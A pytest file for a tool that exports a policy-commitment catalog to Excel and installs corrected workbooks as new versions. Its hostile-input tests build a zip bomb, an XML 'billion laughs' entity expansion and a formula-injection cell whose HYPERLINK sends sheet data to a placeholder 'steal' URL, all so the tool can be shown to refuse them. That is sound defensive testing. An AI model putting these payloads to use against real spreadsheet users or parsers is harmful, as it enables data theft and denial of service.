"""The catalog workbook: export, read back, install as a new version, refuse hostile files."""

from __future__ import annotations

import copy
import json
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from workshop.catalogs.catalog import (
    CHALLENGE_LETTERS,
    Catalog,
    available_catalogs,
    bundled_catalog_dir,
    installed_catalog_dir,
    parse_catalog,
)
from workshop.catalogs.catalog_workbook import (
    COMMITMENT_HEADERS,
    MAX_MEMBERS,
    MAX_UNCOMPRESSED_BYTES,
    catalog_to_data,
    content_key,
    export_catalog,
    install_catalog_workbook,
    read_catalog_workbook,
)
from workshop.errors import WorkshopError

CATALOG_ID = "test-track"


@pytest.fixture(autouse=True)
def private_data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Installed catalogs go to a folder of this test, never the real user data folder."""
    path = tmp_path / "userdata"
    monkeypatch.setenv("WORKSHOP_DATA_DIR", str(path))
    return path


def small_catalog_data() -> dict[str, Any]:
    """A small valid catalog in the normal form of `catalog_to_data`: 7 chapters, 2 documents
    (one with parts), the 12 challenges, each linked to a commitment."""
    chapters = [{"number": n, "title": f"Chapter {n} of the outcome document",
                 "short": f"Chapter {n}"} for n in range(1, 8)]
    challenges = [
        {"letter": letter, "title": f"Challenge ({letter})",
         "summary": f"What challenge ({letter}) is about."}
        | ({"thematic_year": 2020 + i} if i < 6 else {})
        for i, letter in enumerate(CHALLENGE_LETTERS)
    ]
    documents = [
        {"id": "2009", "year": 2009, "title": "Political Declaration and Plan of Action",
         "short": "2009 Political Declaration", "symbol": "E/2009/28",
         "parts": [{"prefix": "", "cite": "2009 Political Declaration"},
                   {"prefix": "PA", "cite": "2009 Plan of Action"}]},
        {"id": "2016", "year": 2016, "title": "Our joint commitment",
         "short": "UNGASS 2016", "symbol": "A/RES/S-30/1", "parts": []},
    ]
    commitments = []
    references = [("2009", "1", ""), ("2009", "PA10", "a"), ("2009", "PA10", "b")] + [
        ("2016", str(n), letter) for n in (1, 2, 3) for letter in ("a", "b", "c")]
    for i, (document, paragraph, sub) in enumerate(references):
        commitments.append({
            "id": f"{document}-{paragraph}" + (f"-{sub}" if sub else ""),
            "document": document,
            "paragraph": paragraph,
            "subparagraph": sub,
            "chapter": i % 7 + 1,
            "title": f"Commitment {i + 1}",
            "summary": f"States undertake action number {i + 1}.",
            "themes": ["prevention", "human-rights"] if i % 2 else [],
            "challenges": [CHALLENGE_LETTERS[i % 12]] + (["m"] if i == 0 else []),
            "reference_checked": i % 3 == 0,
            "reference_source": "Official text, checked by the secretariat" if i % 3 == 0
            else "",
            "reference_note": "" if i % 4 else "Numbering as in the official English text.",
        })
    return {"format": 1, "id": CATALOG_ID, "version": 1, "title": "Test single track",
            "documents": documents, "chapters": chapters, "challenges": challenges,
            "commitments": commitments}


@pytest.fixture
def small_data() -> dict[str, Any]:
    return small_catalog_data()


@pytest.fixture
def small_catalog(small_data: dict[str, Any]) -> Catalog:
    return parse_catalog(copy.deepcopy(small_data), name="small")


@pytest.fixture
def installed_v1(small_data: dict[str, Any]) -> Catalog:
    """The small catalog installed as version 1, as `workshop catalog import` would leave it."""
    path = installed_catalog_dir() / f"{CATALOG_ID}-v1.json"
    path.write_text(json.dumps(small_data, ensure_ascii=False, indent=2), encoding="utf-8")
    return next(c for c in available_catalogs() if c.id == CATALOG_ID and c.version == 1)


@pytest.fixture
def exported(small_catalog: Catalog, tmp_path: Path) -> Path:
    path = tmp_path / "catalog.xlsx"
    export_catalog(small_catalog, path)
    return path


def installed_state() -> dict[str, bytes]:
    folder = installed_catalog_dir()
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def edit_commitments(path: Path, change: Callable[[Any, dict[str, int]], None]) -> None:
    """Open the workbook with openpyxl, let `change` edit the Commitments sheet, save."""
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["Commitments"]
    columns = {cell.value: cell.column for cell in sheet[1]}
    change(sheet, columns)
    workbook.save(path)


def set_summary(path: Path, row: int, text: str) -> None:
    def change(sheet: Any, columns: dict[str, int]) -> None:
        cell = sheet.cell(row=row, column=columns["summary"])
        cell.value = text
        cell.data_type = "s"
    edit_commitments(path, change)


def add_id_changes(path: Path, rows: list[tuple[str, str, str]]) -> None:
    """Fill the sheet Id changes as the secretariat would."""
    workbook = openpyxl.load_workbook(path)
    for row in rows:
        workbook["Id changes"].append(row)
    workbook.save(path)


# --- export and read back -------------------------------------------------------------------

def test_the_fixture_is_in_normal_form(small_catalog: Catalog, small_data: dict[str, Any]) -> None:
    assert catalog_to_data(small_catalog) == small_data


def test_export_then_read_back_is_the_same_catalog(small_catalog: Catalog,
                                                   exported: Path) -> None:
    back = read_catalog_workbook(exported)
    assert back.hash == small_catalog.hash
    assert back.id == small_catalog.id and back.version == small_catalog.version
    assert back.commitments == small_catalog.commitments
    assert back.documents == small_catalog.documents
    assert back.chapters == small_catalog.chapters
    assert back.challenges == small_catalog.challenges
    assert content_key(back) == content_key(small_catalog)


def test_the_workbook_is_laid_out_for_editing(small_catalog: Catalog, exported: Path) -> None:
    workbook = openpyxl.load_workbook(exported)
    assert workbook.sheetnames == ["About", "Documents", "Chapters", "Challenges", "Commitments",
                                   "Id changes"]
    about = {row[0].value: row[1].value for row in workbook["About"].iter_rows(min_row=2)}
    assert about["id"] == CATALOG_ID and about["version"] == 1
    assert about["hash"] == small_catalog.hash and about["format"] == 1
    assert "import" in about["instructions"]
    sheet = workbook["Commitments"]
    header = [cell.value for cell in sheet[1]]
    assert header == [*COMMITMENT_HEADERS, "reference"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    summary = sheet.cell(row=2, column=header.index("summary") + 1)
    assert summary.alignment.wrap_text
    checked = sheet.cell(row=2, column=header.index("reference_checked") + 1)
    assert checked.data_type == "b" and checked.value is True
    reference = sheet.cell(row=3, column=header.index("reference") + 1)
    assert reference.value == "2009 Plan of Action, para. 10 (a)"
    formulas = {dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert formulas == {'"TRUE,FALSE"', '"1,2,3,4,5,6,7"'}
    parts = workbook["Documents"].cell(row=2, column=6)
    assert parts.value == "=2009 Political Declaration; PA=2009 Plan of Action"
    assert parts.data_type == "s"
    for ws in workbook.worksheets:
        for row in ws.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://example.org","x")', "+33 1 23",
                                  "-5 per cent", "@home", "=", "x\n=y"])
def test_text_that_looks_like_a_formula_is_a_string_and_round_trips(
        small_data: dict[str, Any], tmp_path: Path, text: str) -> None:
    small_data["commitments"][0]["summary"] = text
    small_data["commitments"][1]["title"] = text + " title"
    catalog = parse_catalog(small_data, name="small")
    path = tmp_path / "tricky.xlsx"
    export_catalog(catalog, path)
    sheet = openpyxl.load_workbook(path)["Commitments"]
    column = COMMITMENT_HEADERS.index("summary") + 1
    cell = sheet.cell(row=2, column=column)
    assert cell.data_type == "s" and cell.value == text
    back = read_catalog_workbook(path)
    assert back.commitments[0].summary.encode() == text.encode()
    assert back.commitments[1].title.encode() == (text + " title").encode()
    assert back.hash == catalog.hash


def test_arabic_chinese_and_russian_round_trip_byte_for_byte(
        small_data: dict[str, Any], tmp_path: Path) -> None:
    texts = {
        "ar": "تلتزم الدول باتخاذ تدابير فعالة للوقاية من تعاطي المخدرات وعلاجه.",
        "zh": "各国承诺采取有效措施，预防和治疗药物滥用。",
        "ru": "Государства обязуются принимать эффективные меры профилактики и лечения.",
    }
    small_data["title"] = texts["ru"]
    small_data["chapters"][0]["title"] = texts["zh"]
    small_data["challenges"][0]["summary"] = texts["ar"]
    small_data["documents"][0]["parts"][1]["cite"] = "خطة العمل 2009"
    for i, text in enumerate(texts.values()):
        small_data["commitments"][i]["summary"] = text
        small_data["commitments"][i]["title"] = text[:30]
        small_data["commitments"][i]["reference_note"] = text + "\nسطر ثان"
    catalog = parse_catalog(small_data, name="small")
    path = tmp_path / "scripts.xlsx"
    export_catalog(catalog, path)
    back = read_catalog_workbook(path)
    assert back.content.encode("utf-8") == catalog.content.encode("utf-8")
    assert back.hash == catalog.hash
    for i, text in enumerate(texts.values()):
        assert back.commitments[i].summary.encode("utf-8") == text.encode("utf-8")


def test_every_bundled_catalog_round_trips(tmp_path: Path) -> None:
    bundled = [c for c in available_catalogs()
               if Path(c.source_path).parent == bundled_catalog_dir()]
    if not bundled:
        pytest.skip("no catalog is bundled yet")
    for catalog in bundled:
        path = tmp_path / f"{catalog.id}-v{catalog.version}.xlsx"
        export_catalog(catalog, path)
        back = read_catalog_workbook(path)
        assert content_key(back) == content_key(catalog), catalog.label
        assert back.commitments == catalog.commitments
        # the ids a version changed belong to that version, not to the next one's workbook
        assert list(openpyxl.load_workbook(path)["Id changes"].values) == [("id", "now", "note")]


def test_an_unwritable_target_is_one_sentence_and_leaves_nothing(small_catalog: Catalog,
                                                                 tmp_path: Path) -> None:
    with pytest.raises(WorkshopError) as error:
        export_catalog(small_catalog, tmp_path / "missing" / "catalog.xlsx")
    assert "catalog.xlsx" in str(error.value) and "\n" not in str(error.value)
    target = tmp_path / "folder.xlsx"
    target.mkdir()
    with pytest.raises(WorkshopError):
        export_catalog(small_catalog, target)
    assert sorted(p.name for p in tmp_path.iterdir() if p.name != "userdata") == ["folder.xlsx"]


def test_export_overwrites_an_earlier_export_whole(small_catalog: Catalog,
                                                   exported: Path) -> None:
    export_catalog(small_catalog, exported)
    assert read_catalog_workbook(exported).hash == small_catalog.hash
    assert [p.name for p in exported.parent.glob(".*tmp")] == []


# --- installing a corrected workbook --------------------------------------------------------

def test_a_corrected_workbook_is_installed_as_the_next_version(
        installed_v1: Catalog, exported: Path) -> None:
    new_summary = "States undertake, as corrected against the official text, action 2."

    def change(sheet: Any, columns: dict[str, int]) -> None:
        # Row 3 is 2009-PA10-a: correct its sub-paragraph letter (and id) and its summary.
        sheet.cell(row=3, column=columns["subparagraph"]).value = "c"
        sheet.cell(row=3, column=columns["id"]).value = "2009-PA10-c"
        sheet.cell(row=3, column=columns["summary"]).value = new_summary
        sheet.cell(row=3, column=columns["reference"]).value = "anything: ignored"
    edit_commitments(exported, change)
    before = installed_state()
    with pytest.raises(WorkshopError) as error:  # the old id may not vanish unsaid
        install_catalog_workbook(exported)
    assert str(error.value) == (
        "The workbook catalog.xlsx cannot be imported: 2009-PA10-a of version 1 are not in it "
        "and its sheet Id changes does not say where they went: add a row for each (with "
        "column now empty for one removed).")
    assert installed_state() == before
    add_id_changes(exported, [("2009-PA10-a", "2009-PA10-c", "Letter corrected.")])

    installed = install_catalog_workbook(exported)
    assert installed.previous_version == 1
    assert [(c.id, c.now, c.note) for c in installed.changes] == [
        ("2009-PA10-a", ("2009-PA10-c",), "Letter corrected.")]
    assert (installed.id, installed.version) == (CATALOG_ID, 2)
    versions = [c.version for c in available_catalogs() if c.id == CATALOG_ID]
    assert versions == [1, 2]
    fresh = next(c for c in available_catalogs() if c.id == CATALOG_ID and c.version == 2)
    assert fresh.hash == installed.hash
    edited = fresh.commitment("2009-PA10-c")
    assert edited is not None and edited.summary == new_summary
    assert edited.reference == "2009 Plan of Action, para. 10 (c)"
    assert fresh.commitment("2009-PA10-a") is None
    old = next(c for c in available_catalogs() if c.id == CATALOG_ID and c.version == 1)
    assert old.hash == installed_v1.hash
    assert old.commitment("2009-PA10-a") is not None
    path = installed_catalog_dir() / f"{CATALOG_ID}-v2.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["version"] == 2 and parse_catalog(data).hash == installed.hash


def test_the_version_in_the_workbook_is_ignored_and_an_empty_id_is_derived(
        installed_v1: Catalog, exported: Path) -> None:
    workbook = openpyxl.load_workbook(exported)
    about = workbook["About"]
    for row in about.iter_rows(min_row=2):
        if row[0].value == "version":
            row[1].value = 77
    commitments = workbook["Commitments"]
    commitments.cell(row=2, column=1).value = None  # 2009-1: id left empty
    commitments.cell(row=2, column=COMMITMENT_HEADERS.index("summary") + 1).value = "Changed."
    workbook.save(exported)
    assert read_catalog_workbook(exported).version == 77
    installed = install_catalog_workbook(exported)
    assert installed.version == 2
    assert installed.commitments[0].id == "2009-1"


def test_a_workbook_of_a_new_catalog_id_installs_as_version_one(exported: Path) -> None:
    installed = install_catalog_workbook(exported)
    assert installed.version == 1
    assert [c.version for c in available_catalogs() if c.id == CATALOG_ID] == [1]


def test_identical_content_is_refused_and_nothing_is_installed(installed_v1: Catalog,
                                                               exported: Path) -> None:
    before = installed_state()
    with pytest.raises(WorkshopError) as error:
        install_catalog_workbook(exported)
    assert str(error.value) == (f"This workbook holds the same content as catalog {CATALOG_ID} "
                                "version 1; nothing was installed.")
    assert installed_state() == before


def test_installing_twice_refuses_the_second_time(installed_v1: Catalog, exported: Path,
                                                  tmp_path: Path) -> None:
    set_summary(exported, 2, "Corrected once.")
    assert install_catalog_workbook(exported).version == 2
    with pytest.raises(WorkshopError, match="version 2; nothing was installed"):
        install_catalog_workbook(exported)
    # corrected again from version 1: it would undo version 2's correction
    set_summary(exported, 2, "Corrected twice.")
    before = installed_state()
    with pytest.raises(WorkshopError) as error:
        install_catalog_workbook(exported)
    assert str(error.value) == (
        f"The workbook catalog.xlsx cannot be imported: it was exported from catalog "
        f"{CATALOG_ID} version 1, and version 2 has been installed since: export version 2 "
        "(workshop catalog export --version 2), make the corrections there and import that.")
    assert installed_state() == before
    newest = next(c for c in available_catalogs() if c.id == CATALOG_ID and c.version == 2)
    again = tmp_path / "v2.xlsx"
    export_catalog(newest, again)
    set_summary(again, 2, "Corrected twice.")
    installed = install_catalog_workbook(again)
    assert installed.version == 3 and installed.previous_version == 2


def test_an_existing_file_is_never_overwritten(installed_v1: Catalog, exported: Path) -> None:
    # A file named as version 2 that holds version 1 (copied by hand): its name is taken.
    first = installed_catalog_dir() / f"{CATALOG_ID}-v1.json"
    squatter = installed_catalog_dir() / f"{CATALOG_ID}-v2.json"
    squatter.write_bytes(first.read_bytes())
    set_summary(exported, 2, "Corrected.")
    installed = install_catalog_workbook(exported)
    assert installed.version == 3
    assert squatter.read_bytes() == first.read_bytes()


def test_values_as_spreadsheets_type_them_are_accepted(installed_v1: Catalog,
                                                       exported: Path) -> None:
    def change(sheet: Any, columns: dict[str, int]) -> None:
        sheet.cell(row=5, column=columns["paragraph"]).value = 1  # a number, not text
        sheet.cell(row=5, column=columns["chapter"]).value = "3"
        sheet.cell(row=5, column=columns["reference_checked"]).value = "false"
        sheet.cell(row=5, column=columns["challenges"]).value = "D, m"
        sheet.cell(row=6, column=columns["chapter"]).value = 2.0
        sheet.cell(row=40, column=columns["title"]).value = "   "  # an empty row is skipped
    edit_commitments(exported, change)
    installed = install_catalog_workbook(exported)
    changed = installed.commitment("2016-1-a")
    assert changed is not None
    assert (changed.paragraph, changed.chapter, changed.reference_checked) == ("1", 3, False)
    assert changed.challenges == ("d", "m")
    assert len(installed.commitments) == len(installed_v1.commitments)


# --- hostile and broken workbooks -----------------------------------------------------------

def _not_a_zip(path: Path) -> None:
    path.write_bytes(b"id,title\n2016-1-a,Not a workbook\n")


def _truncated(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _rewrap(path: Path, extra: Callable[[zipfile.ZipFile], None]) -> None:
    """Copy the workbook's members into a new zip and let `extra` add members."""
    source = path.with_suffix(".orig")
    path.rename(source)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(
            path, "w", compression=zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            new.writestr(info, old.read(info.filename))
        extra(new)
    source.unlink()


def _zip_bomb(path: Path) -> None:
    def bomb(archive: zipfile.ZipFile) -> None:
        chunk = bytes(1024 * 1024)
        with archive.open("xl/media/image1.png", "w", force_zip64=True) as member:
            for _ in range(MAX_UNCOMPRESSED_BYTES // len(chunk) + 1):
                member.write(chunk)
    _rewrap(path, bomb)
    assert path.stat().st_size < 1024 * 1024  # small on disk, huge unpacked


def _many_members(path: Path) -> None:
    def members(archive: zipfile.ZipFile) -> None:
        for i in range(MAX_MEMBERS):
            archive.writestr(f"xl/media/m{i}.bin", b"x")
    _rewrap(path, members)


def _entities(path: Path) -> None:
    """An XML entity expansion ("billion laughs") in the Commitments sheet."""
    source = path.with_suffix(".orig")
    path.rename(source)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for info in old.infolist():
            data = old.read(info.filename)
            if info.filename == "xl/worksheets/sheet5.xml":
                text = data.decode("utf-8")
                body = text[text.index("<worksheet"):]
                dtd = ('<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
                       '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
                       '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>')
                data = (dtd + body.replace("Commitment 1<", "&c;<", 1)).encode("utf-8")
            new.writestr(info, data)
    source.unlink()


def _formula(path: Path) -> None:
    def change(sheet: Any, columns: dict[str, int]) -> None:
        sheet.cell(row=2, column=columns["summary"]).value = (
            '=HYPERLINK("http://example.org/steal?d="&A1,"Click for the official text")')
    edit_commitments(path, change)


def _formula_in_ignored_column(path: Path) -> None:
    def change(sheet: Any, columns: dict[str, int]) -> None:
        sheet.cell(row=2, column=columns["reference"]).value = "=1+1"
    edit_commitments(path, change)


def _missing_sheet(path: Path) -> None:
    workbook = openpyxl.load_workbook(path)
    del workbook["Challenges"]
    workbook.save(path)


def _missing_column(path: Path) -> None:
    edit_commitments(path, lambda sheet, columns: sheet.delete_cols(columns["summary"]))


def _duplicate_id(path: Path) -> None:
    def change(sheet: Any, columns: dict[str, int]) -> None:
        last = sheet.max_row
        for cell in sheet[2]:
            target = sheet.cell(row=last + 1, column=cell.column)
            target.value = cell.value
            target.data_type = cell.data_type
    edit_commitments(path, change)


def _set(column: str, value: Any) -> Callable[[Path], None]:
    def apply(path: Path) -> None:
        def change(sheet: Any, columns: dict[str, int]) -> None:
            sheet.cell(row=4, column=columns[column]).value = value
        edit_commitments(path, change)
    return apply


def _about_without_version(path: Path) -> None:
    workbook = openpyxl.load_workbook(path)
    sheet = workbook["About"]
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "version":
            row[0].value = None
            row[1].value = None
    workbook.save(path)


HOSTILE: dict[str, tuple[Callable[[Path], None], str]] = {
    "not a zip": (_not_a_zip, "not an Excel workbook"),
    "truncated": (_truncated, "not an Excel workbook"),
    "zip bomb": (_zip_bomb, "unpacks to more than 50 MB"),
    "too many members": (_many_members, f"more than {MAX_MEMBERS} parts"),
    "entity expansion": (_entities, "cannot be read as an Excel workbook"),
    "formula": (_formula, "formula in cell G2"),
    "formula in the reference column": (_formula_in_ignored_column, "formula in cell M2"),
    "missing sheet": (_missing_sheet, "no sheet Challenges"),
    "missing column": (_missing_column, "no column summary"),
    "duplicate commitment id": (_duplicate_id, "commitment id 2009-1 appears twice"),
    "unknown chapter": (_set("chapter", 9), "unknown chapter 9"),
    "unknown challenge letter": (_set("challenges", "i"), "unknown challenge i"),
    "malformed paragraph": (_set("paragraph", "10b"), "malformed paragraph 10b"),
    "chapter not a number": (_set("chapter", "three"), "row 4, column chapter"),
    "checked not a boolean": (_set("reference_checked", "maybe"), "TRUE or FALSE"),
    "about without version": (_about_without_version, "About has no row version"),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_a_hostile_or_broken_workbook_is_refused_and_nothing_is_installed(
        installed_v1: Catalog, exported: Path, name: str) -> None:
    spoil, expected = HOSTILE[name]
    spoil(exported)
    before = installed_state()
    with pytest.raises(WorkshopError) as error:
        install_catalog_workbook(exported)
    message = str(error.value)
    assert expected in message
    assert exported.name in message
    assert "\n" not in message and "Traceback" not in message
    assert installed_state() == before
    with pytest.raises(WorkshopError):
        read_catalog_workbook(exported)


def test_a_missing_file_is_refused_in_one_sentence(tmp_path: Path) -> None:
    with pytest.raises(WorkshopError, match="no such file"):
        read_catalog_workbook(tmp_path / "absent.xlsx")


def test_id_changes_are_checked_against_the_newest_version(installed_v1: Catalog,
                                                           exported: Path) -> None:
    set_summary(exported, 2, "Corrected.")
    before = installed_state()
    add_id_changes(exported, [("2016-9-z", "", "Not in version 1.")])
    with pytest.raises(WorkshopError, match="names 2016-9-z, which version 1 of the catalog"):
        install_catalog_workbook(exported)
    assert installed_state() == before


def test_a_removed_and_a_split_commitment_are_said_and_mapped(installed_v1: Catalog,
                                                              exported: Path) -> None:
    from workshop.catalogs.catalog_mapping import id_mapping

    old_ids = [c.id for c in installed_v1.commitments]
    linked = [letter for c in installed_v1.commitments for letter in c.challenges]
    removed = next(c.id for c in installed_v1.commitments  # one whose challenges stay linked
                   if all(linked.count(letter) > 1 for letter in c.challenges))
    split, part = [cid for cid in old_ids if cid != removed][1:3]

    def change(sheet: Any, columns: dict[str, int]) -> None:
        for row in range(2, sheet.max_row + 1):
            if sheet.cell(row=row, column=columns["id"]).value == removed:
                sheet.delete_rows(row)
                return
    edit_commitments(exported, change)
    add_id_changes(exported, [(removed, "", "A placeholder."),
                              (split, f"{split}; {part}", "Two provisions.")])
    installed = install_catalog_workbook(exported)
    mapping = id_mapping(set(old_ids), CATALOG_ID, 1, installed)
    assert mapping.ids(removed) == ()
    assert mapping.ids(split) == (split, part)
    assert mapping.ids(old_ids[0]) == (old_ids[0],)
    statuses, unmapped = mapping.statuses({removed: "2", split: "3", part: "1"})
    # the split one and the one it was split into disagree on `part`: neither is guessed
    assert statuses == {split: "3"} and unmapped == sorted([removed, split, part])
